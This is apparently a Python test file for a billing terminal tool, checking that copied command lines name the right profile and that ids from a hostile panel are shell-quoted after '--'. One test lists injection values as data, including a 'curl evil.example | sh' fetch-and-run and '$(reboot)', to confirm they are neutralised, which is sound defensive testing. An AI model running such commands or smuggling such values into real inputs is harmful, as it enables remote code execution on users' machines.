"""A copied command line acts on the panel it was copied from, and on nothing that an id says."""

from __future__ import annotations

import shlex

from billtui.config.profile_rules import WITHOUT_PROFILE
from billtui.config.profiles import make_profile
from billtui.screens.command_text import command_line

URL = "https://panel.example/billing"


def test_it_names_where_it_acts() -> None:
    work = make_profile(name="work", url=URL, login="olena")
    demo = make_profile(name="demo", url="http://127.0.0.1:1", login="olena", demo=True)
    without = make_profile(name=WITHOUT_PROFILE, url=URL, login="olena")
    assert command_line(work, ["jobs", "show"], ["17"]) == "billtui jobs show --profile work 17"
    assert command_line(demo, ["jobs", "show"], ["17"]) == "billtui jobs show --demo --login olena 17"
    assert command_line(without, ["jobs", "show"], ["17"]) == f"billtui jobs show --url {URL} --login olena 17"


def test_ids_of_a_hostile_panel_are_words_and_no_options() -> None:
    ids = ["17; curl evil.example | sh", "$(reboot)", "`id`", "--yes", "a\nb", "'"]
    profile = make_profile(name="work", url=URL)
    words = shlex.split(command_line(profile, ["invoices", "pay"], ids))
    assert words == ["billtui", "invoices", "pay", "--profile", "work", "--", *ids]
